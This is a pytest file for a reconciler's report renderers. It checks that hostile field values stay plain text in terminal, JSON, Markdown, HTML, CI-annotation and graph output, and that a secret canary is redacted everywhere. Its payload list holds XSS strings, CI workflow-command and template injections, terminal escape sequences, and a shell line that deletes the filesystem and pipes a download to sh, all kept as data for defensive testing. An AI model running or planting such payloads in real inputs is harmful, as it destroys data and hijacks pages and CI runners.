"""Hostile text in every field of a plan, in every format: it stays text. And a secret shows up in none of them."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable
from dataclasses import replace
from urllib.parse import quote

import pytest
from markdown_it import MarkdownIt

from reconciler.errors import Problem
from reconciler.model import (
    Action,
    ApplyResult,
    Call,
    Change,
    ChangeResult,
    FieldChange,
    Finding,
    Observed,
    Outcome,
    Place,
    Plan,
    Resource,
    Severity,
    waiting,
)
from reconciler.report import github, graph, html, markdown, text
from reconciler.report import json as documents
from tests.report.samples import SPEC
from tests.report.test_html import parsed

PAYLOADS = {
    "html": "</script></style></pre></code></details><script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "html-comment": "--> <!-- x",
    "markdown-link": "[click](https://evil.example/) ![x](https://evil.example/x.png) <https://evil.example>",
    "markdown-fence": "\n```\n````\n# heading\n\n| a | b |\n",
    "markdown-cell": "a | b \\| c \\",
    "mention": "@everyone @org/team #1 GH-2 org/repo#3 www.evil.example https://evil.example",
    "command": "\n::error file=x::y\n  ::set-output name=a::b\n##[add-mask]x\n::add-mask::z",
    "entities": "&#64;everyone &#35;1 &lt;b&gt; &amp;lt; &#60;b&#62; &num;2",
    "delimiter": "\nEOF\nevil<<EOF\n",
    "ansi": "\x1b[2J\x1b]0;title\x07\x9b31m",
    "osc-link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "bidi": "\u202egnp.exe\u2066\u200b\ufeff",
    "carriage-return": "real\rfake",
    "template": "{{ 7 * 7 }}{% raw %}${{ github.token }}$(id)`id`",
    "mermaid": 'x"]\n    click n0 "javascript:alert(1)"\n    n0["',
    "dot": '"; evil [URL="javascript:alert(1)"]; "\\',
    "shell": "; rm -rf / && $(curl evil) `id` | sh",
    "surrogate": "\ud800x",
    "null": "a\x00b",
    "line-separators": "a\u2028b\u2029c\x85d",
}

payloads = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)


def hostile_change(payload: str, action: Action) -> Change:
    address = f"kind{action}/{payload}"
    here = Place(payload, 3, 1)
    fields = (
        FieldChange((payload,), payload, None, here),
        FieldChange(("a", payload), {payload: [payload, {payload: payload}]}, {payload: ["x"]}, here),
        FieldChange(("b",), f"{payload}\n{payload}", "x\ny", here, forces_replacement=True),
        FieldChange(("c",), None, json.dumps({payload: payload}), here),
    )
    return Change(
        action,
        address,
        Resource("kind", payload, payload, {}, here),
        Observed(address, payload, {}, status=waiting(payload)),
        fields,
        payload,
        (Call("ec2", "CreateVpc", {payload: payload}),),
    )


def hostile_plan(payload: str) -> Plan:
    changes = tuple(hostile_change(payload, action) for action in Action)
    findings = tuple(Finding("RC1", severity, payload, payload, payload, Place(payload, 1, 1)) for severity in Severity)
    first, second = changes[0].address, changes[1].address
    return Plan(payload, payload, payload, changes, findings, {payload: 1}, {first: (second,), payload: (first,)})


def hostile_result(payload: str) -> ApplyResult:
    plan = hostile_plan(payload)
    outcomes = [*Outcome, *Outcome]
    results = tuple(
        ChangeResult(change, outcome, payload, payload) for change, outcome in zip(plan.changes, outcomes, strict=True)
    )
    return ApplyResult(plan, results, plan)


def assert_plain_text(shown: str) -> None:
    assert (
        re.findall(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]", shown)
        == []
    )
    assert [line for line in shown.split("\n") if line.lstrip().startswith("::")] == []
    assert "##[" not in shown


@payloads
@pytest.mark.parametrize("verbose", [False, True])
def test_a_terminal_and_a_runner_see_plain_text(payload: str, verbose: bool) -> None:
    plan = hostile_plan(payload)
    assert_plain_text(text.plan_text(plan, verbose=verbose))
    assert_plain_text(text.drift_text(plan, verbose=verbose))
    assert_plain_text(text.apply_text(hostile_result(payload)))
    assert_plain_text(text.plan_text(plan, width=40))


@payloads
def test_a_coloured_text_has_no_sequence_but_our_own(payload: str) -> None:
    shown = text.plan_text(hostile_plan(payload), color=True)
    assert_plain_text(re.sub(r"\x1b\[(0|1|2|3[1-6]|1;3[136])m", "", shown))


@payloads
def test_json_is_ascii_and_holds_the_text_unchanged(payload: str) -> None:
    written = documents.dumps(
        documents.apply_document(hostile_result(payload), command="apply", meta={payload: payload})
    )
    assert written.isascii()
    assert_plain_text(written)
    document = json.loads(written)
    assert document["stack"] == payload
    assert document["changes"][0]["fields"][0]["path_parts"] == [payload]
    assert document["changes"][0]["fields"][0]["desired"] == payload


@payloads
def test_markdown_holds_no_structure_but_ours(payload: str) -> None:
    parser = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    plan = hostile_plan(payload)
    for comment in (
        markdown.plan_comment(plan),
        markdown.drift_comment(plan),
        markdown.apply_comment(hostile_result(payload)),
    ):
        page = parsed(parser.render(comment))
        assert {tag for tag, _ in page.tags} <= {
            "h2", "h3", "p", "strong", "code", "pre", "details", "summary", "table", "thead", "tbody", "tr", "th", "td"
        }  # fmt: skip
        assert all(set(attributes) <= {"class"} for _, attributes in page.tags)
        outside_code = "".join(data for tag, data in page.texts if tag not in ("code", "pre"))
        assert re.findall(r"@\w|#\d|GH-\d|://|www\.", outside_code) == []
        for row in re.findall(r"<tr>.*?</tr>", parser.render(comment), re.DOTALL):
            assert len(re.findall(r"<t[dh]>", row)) in (4, 5)


@payloads
def test_html_holds_no_element_but_ours(payload: str) -> None:
    extra = [(payload, [(payload,), (payload,)])]
    harmless = html.plan_page(hostile_plan("x"), meta={"commit": "x"}, extra=[("x", [("x",), ("x",)])])
    page = parsed(html.plan_page(hostile_plan(payload), meta={"commit": payload}, extra=extra))
    assert {tag for tag, _ in page.tags} == {tag for tag, _ in parsed(harmless).tags}
    assert len(page.found("script")) == 2
    for _, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on") or name in ("src", "style", "xlink:href")]
        assert (attributes.get("href") or "#").startswith(("#", "data:,"))
    assert re.findall(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", page.text) == []
    data = next(content for tag, content in page.texts if tag == "script")
    assert not re.search("[<>&]", data), "no HTML parser may find a tag or an entity in the data"
    assert json.loads(data)["stack"] == payload
    parsed(html.drift_page(hostile_plan(payload), meta={}))
    parsed(html.apply_page(hostile_result(payload), meta={}))


@payloads
def test_an_annotation_is_one_command_on_one_line(payload: str) -> None:
    plan = hostile_plan(payload)
    problem = Problem("RC1", payload, Place(payload, 1, 1), payload)
    for lines in (github.plan_annotations(plan), github.drift_annotations(plan), github.problem_annotations([problem])):
        for line in lines.splitlines():
            assert re.fullmatch(r"::(error|warning|notice) (\w+=[^:,]*,)*title=[^:,]*::.*", line)
        assert "##[" not in lines
        assert re.findall(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", lines) == []


@payloads
def test_an_output_holds_its_value_and_nothing_else(payload: str) -> None:
    token = "0123456789abcdef"
    assert github.outputs({"text": payload}, token) == f"text<<{token}\n{payload}\n{token}\n"


@payloads
def test_graphs_hold_labels_and_nothing_else(payload: str) -> None:
    shown = graph.plan_graph(hostile_plan(payload))
    label = r"(?:[A-Za-z0-9 ./_-]|#\d+;)*"
    for line in graph.mermaid(shown).splitlines()[1:]:
        assert re.fullmatch(rf'    n\d+(\["{label}"\]| --> n\d+)', line)
    quoted = r'"(?:[^"\\]|\\.)*"'
    for line in graph.dot(shown).splitlines()[3:-1]:
        assert re.fullmatch(rf"    {quoted} (\[label={quoted}\]|-> {quoted});", line)
    page = parsed(graph.svg(shown))
    assert {tag for tag, _ in page.tags} == {"svg", "path", "g", "title", "rect", "text"}


# --- secrets ----------------------------------------------------------------------------------------------------------

CANARY = 'c4n4ry"<&é/7f3a91'


def canary_plan() -> Plan:
    address = "rds.db_instance/database"
    resource = Resource("rds.db_instance", "database", "s", {"master_user_password": CANARY}, Place(SPEC, 1, 1))
    observed = Observed(address, "db", {"password": CANARY}, {"url": CANARY}, details={"secret": CANARY})
    fields = (
        FieldChange(("master_user_password",), CANARY, f"old-{CANARY}", sensitive=True),
        FieldChange(("nested",), {"deep": [CANARY]}, [CANARY], sensitive=True),
        FieldChange(("environment",), [{"name": "DB_PASSWORD", "value": CANARY}], None),
        FieldChange(("url",), f"postgresql://app:{quote(CANARY, safe='')}@db/app", None),
        FieldChange(("user_data",), base64.b64encode(f"password={CANARY}".encode()).decode(), None),
        FieldChange(("document",), json.dumps({"password": CANARY, "text": f"it is {CANARY}"}), None),
        FieldChange(("plain",), CANARY, f"also {CANARY}"),
    )
    calls = (Call("rds", "CreateDBInstance", {"master_user_password": CANARY, "note": json.dumps(CANARY)}),)
    changes = tuple(
        Change(
            action, f"{address}-{action}", resource, replace(observed, status=waiting(CANARY)), fields, CANARY, calls
        )
        for action in Action
    )
    finding = Finding("RC1", Severity.ERROR, f"AWS said {CANARY}", f"not {json.dumps(CANARY)}", address)
    return Plan("s", "1", "r", changes, (finding,))


def canary_result() -> ApplyResult:
    plan = canary_plan()
    results = tuple(ChangeResult(change, Outcome.FAILED, f"rejected {CANARY}", CANARY) for change in plan.changes)
    return ApplyResult(replace(plan, changes=()), results, plan)


FORMATS: dict[str, Callable[[], str]] = {
    "text": lambda: text.plan_text(canary_plan(), verbose=True),
    "drift text": lambda: text.drift_text(canary_plan(), verbose=True),
    "apply text": lambda: text.apply_text(canary_result()),
    "json": lambda: documents.dumps(documents.plan_document(canary_plan(), command="plan", meta={})),
    "apply json": lambda: documents.dumps(documents.apply_document(canary_result(), command="apply", meta={})),
    "markdown": lambda: markdown.plan_comment(canary_plan()),
    "drift markdown": lambda: markdown.drift_comment(canary_plan()),
    "apply markdown": lambda: markdown.apply_comment(canary_result()),
    "html": lambda: html.plan_page(canary_plan(), meta={}),
    "drift html": lambda: html.drift_page(canary_plan(), meta={}),
    "apply html": lambda: html.apply_page(canary_result(), meta={}),
    "annotations": lambda: github.plan_annotations(canary_plan()) + github.drift_annotations(canary_plan()),
    "summary": lambda: github.step_summary(canary_plan()) + github.step_summary(canary_plan(), drift=True),
}


@pytest.mark.parametrize("render", FORMATS.values(), ids=FORMATS)
def test_a_secret_shows_up_in_no_format_however_written(render: Callable[[], str]) -> None:
    shown = render()
    assert "(sensitive value)" in re.sub(r"&#(\d+);", lambda match: chr(int(match[1])), shown)
    data = CANARY.encode()
    # The halves catch a text that was cut or escaped in the middle.
    forms = [CANARY, "c4n4ry", "7f3a91", json.dumps(CANARY)[1:-1], quote(CANARY, safe="")]
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        forms += [encode(b"x" * offset + data)[2 + offset : -6].decode() for offset in range(3)]
    assert [form for form in forms if form in shown] == []
